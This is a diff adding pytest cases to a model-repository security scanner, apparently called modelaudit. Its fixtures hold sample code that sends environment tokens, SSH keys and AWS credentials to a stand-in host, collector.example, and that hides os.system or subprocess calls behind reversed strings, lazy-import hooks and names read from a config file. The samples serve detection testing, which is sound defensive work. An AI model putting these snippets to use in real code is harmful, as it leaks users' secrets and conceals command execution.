@@ -66,3 +66,105 @@ def test_member_of_another_file_that_names_a_layer_is_no_finding(tmp_path: Path)
     helper = "import torch.nn as tool\nMEMBER = 'Linear'\n"
     code = "from . import helper\nlayer = getattr(helper.tool, helper.MEMBER)(2, 2)\n"
     assert scan(tmp_path, {"modeling_a.py": code, "helper.py": helper}) == 0
+
+
+_SENDER = """import requests
+
+def report(kind, data):
+    requests.post("https://collector.example/x", data=data)
+
+class Client:
+    def push(self, kind, body):
+        self._send(body)
+
+    def _send(self, body):
+        requests.post("https://collector.example/x", json=body)
+
+def fetch(url, token=None):
+    return requests.get(url, headers={"Authorization": token}).json()
+"""
+
+
+@check_each(
+    "code, rule",
+    [
+        ("from helper import report\nreport('x', dict(os.environ))\n", "code/sends-secret"),
+        ("import helper\nhelper.report(data=os.environ['HF_TOKEN'], kind='x')\n", "code/sends-secret"),
+        ("from helper import report as r\nr('x', open(os.path.expanduser('~/.ssh/id_rsa')))\n", "code/sends-secret"),
+        ("from helper import Client\nc = Client()\nc.push('x', [os.environ['HF_TOKEN']])\n", "code/sends-secret"),
+        ("from helper import report\nreport(os.environ['HF_TOKEN'], 'x')\n", ""),
+        ("from helper import report\nreport('x', os.getcwd())\n", ""),
+        ("from helper import fetch\nfetch('https://huggingface.co/a', token=os.environ['HF_TOKEN'])\n", ""),
+    ],
+)
+def test_secret_that_a_function_of_another_file_sends_is_found(tmp_path: Path, code: str, rule: str) -> None:
+    (tmp_path / "helper.py").write_text(_SENDER)
+    (tmp_path / "train.py").write_text(f"import os\n{code}")
+    report = modelaudit.scan(tmp_path, second_opinion=False)
+    assert ("code/sends-secret" in {each.rule for each in report.findings}) == bool(rule)
+
+
+@check_each(
+    "helper, code",
+    [
+        (
+            "import os\nFILES = [os.path.join('~', *each) for each in (('.aws', 'credentials'), ('.netrc',))]\n",
+            "from helper import FILES\nfor path in FILES:\n    HfApi().upload_file(path_or_fileobj=path, repo_id='a/b')\n",
+        ),
+        (
+            "def read():\n    return open('/root/.aws/credentials').read()\n",
+            "import helper\nrequests.post('https://collector.example', data={'a': helper.read()})\n",
+        ),
+        (
+            "import os\nNAME = os.environ['AWS_SECRET_ACCESS_KEY']\n",
+            "from helper import *\nrequests.post('https://collector.example', data=NAME)\n",
+        ),
+    ],
+)
+def test_secret_of_another_file_that_is_sent_is_found(tmp_path: Path, helper: str, code: str) -> None:
+    (tmp_path / "helper.py").write_text(helper)
+    (tmp_path / "train.py").write_text(f"import requests\nfrom huggingface_hub import HfApi\n{code}")
+    report = modelaudit.scan(tmp_path, second_opinion=False)
+    assert "code/sends-secret" in {each.rule for each in report.findings}
+
+
+def test_name_that_a_module_works_out_when_it_is_asked_is_found(tmp_path: Path) -> None:
+    helper = (
+        "import sys\nMOVED = {'scale': 'metsys.so'}\n"
+        "def __getattr__(name):\n    module, _, member = MOVED[name][::-1].rpartition('.')\n"
+        "    __import__(module)\n    return getattr(sys.modules[module], member)\n"
+    )
+    code = "from .helper import scale\nscale('touch x')\n"
+    assert scan(tmp_path, {"modeling_a.py": code, "helper.py": helper}) == 1
+
+
+def test_module_that_imports_its_own_files_when_it_is_asked_is_no_alarm(tmp_path: Path) -> None:
+    hook = (
+        "import importlib\nLAZY = {'Model': 'modeling_a'}\n"
+        "def __getattr__(name):\n    return getattr(importlib.import_module('.' + LAZY[name], __name__), name)\n"
+    )
+    files = {"__init__.py": hook, "use.py": "from . import Model\nModel(3)\n", "modeling_a.py": "class Model: pass\n"}
+    assert scan(tmp_path, files) == 0
+
+
+_SETTINGS = '{"names": {"0": "o", "1": "s"}, "order": [0, 1], "call": "system", "start": "getoutput", "shown": "getcwd", "layer": "Linear"}'
+
+
+@check_each(
+    "code, is_found",
+    [
+        ("import os\ncfg = json.load(open('config.json'))\ngetattr(os, cfg['call'])('touch x')\n", True),
+        (
+            "from importlib import import_module\ncfg = json.loads(Path('config.json').read_text())\n"
+            "spell = lambda order: ''.join(cfg['names'][str(each)] for each in order)\n"
+            "vars(import_module(spell(cfg['order'])))[cfg['call']]('touch x')\n",
+            True,
+        ),
+        ("from subprocess import *\ncfg = json.load(open('config.json'))\nglobals()[cfg['start']]('touch x')\n", True),
+        ("import torch.nn\ncfg = json.load(open('config.json'))\ngetattr(torch.nn, cfg['layer'])(2, 2)\n", False),
+        ("cfg = json.load(open('config.json'))\nprint(cfg['call'], cfg['order'])\n", False),
+    ],
+)
+def test_name_that_code_takes_from_a_file_of_settings_is_resolved(tmp_path: Path, code: str, is_found: bool) -> None:
+    files = {"config.json": _SETTINGS, "run.py": f"import json\nfrom pathlib import Path\n{code}"}
+    assert (scan(tmp_path, files) == 1) == is_found
